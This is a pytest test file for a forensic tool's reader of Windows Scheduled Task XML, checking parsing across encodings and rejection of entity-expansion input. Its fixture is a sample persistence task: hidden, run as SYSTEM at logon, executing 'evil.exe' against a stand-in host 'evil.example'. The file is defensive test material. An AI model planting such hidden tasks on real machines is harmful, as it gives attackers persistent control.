"""Scheduled tasks as XML."""

from __future__ import annotations

import pytest
from tests.evidence.artefact_kit import bears_damage, read_member, shows_plant

from nachsorge.evidence.identify import reader_for
from nachsorge.evidence.readers.task_xml import TaskXml
from nachsorge.model.words import Kind, Platform, Reason, Status, Telemetry

TASK = (
    '<?xml version="1.0" encoding="UTF-16"?>\r\n'
    '<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">\r\n'
    "<RegistrationInfo><Author>PC1\\ann</Author><URI>\\Updater</URI></RegistrationInfo>"
    "<Triggers><LogonTrigger><Enabled>true</Enabled></LogonTrigger><TimeTrigger/></Triggers>"
    '<Principals><Principal id="Author"><UserId>S-1-5-18</UserId></Principal></Principals>'
    "<Settings><Hidden>true</Hidden></Settings>"
    '<Actions Context="Author"><Exec><Command>"C:\\x y\\evil.exe"</Command><Arguments>-u http://evil.example/</Arguments>'
    "</Exec><ComHandler><ClassId>{1111}</ClassId><Data>data.example</Data></ComHandler></Actions></Task>"
)
SPELLED = {
    "utf-16 with a mark": b"\xff\xfe" + TASK.encode("utf-16-le"),
    "utf-16": TASK.encode("utf-16-le"),
    "utf-16 big": b"\xfe\xff" + TASK.encode("utf-16-be"),
    "utf-8": TASK.encode(),
}


@pytest.mark.parametrize("body", SPELLED.values(), ids=SPELLED)
def test_a_task(body):
    assert TaskXml().accepts(body, "Windows/System32/Tasks/Updater") == 94
    (record,), reading = read_member(TaskXml(), body, "Windows/System32/Tasks/Updater")
    assert (record.telemetry, record.locator, reading.status) == (Telemetry.PERSISTENCE, "\\Updater", Status.READ)
    values = {(value.kind, value.text) for value in record.values}
    assert {
        (Kind.PATH, "C:\\x y\\evil.exe"),
        (Kind.TEXT, "-u http://evil.example/"),
        (Kind.TEXT, "data.example"),
        (Kind.TEXT, '"C:\\x y\\evil.exe" -u http://evil.example/'),
    } <= values
    assert record.event["triggers"] == "LogonTrigger, TimeTrigger"
    assert (record.event["UserId"], record.event["Hidden"]) == ("S-1-5-18", "true")
    assert (reading.platform, reading.seen[0].spans) == (Platform.WINDOWS, ())


def test_who_reads_it():
    assert reader_for(TASK.encode(), "Tasks/x").name == "task_xml"
    assert TaskXml().accepts(b"<Task>", "x") == 0


@pytest.mark.parametrize("body", [TASK[:300].encode(), b"", b"<a/><b/>"])
def test_what_is_not_well_formed_is_a_gap(body):
    _, reading = read_member(TaskXml(), body)
    assert (reading.status, reading.reason) == (Status.UNREAD, Reason.CORRUPT)


def test_entities_are_not_expanded():
    body = '<!DOCTYPE t [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]>' + TASK.split("?>\r\n")[1].replace(
        "ann", "&b;"
    )
    _, reading = read_member(TaskXml(), body.encode())
    assert reading.reason is Reason.CORRUPT


def test_damage_and_plant():
    bears_damage(TaskXml(), TASK.encode())
    shows_plant(TaskXml(), TASK.encode())
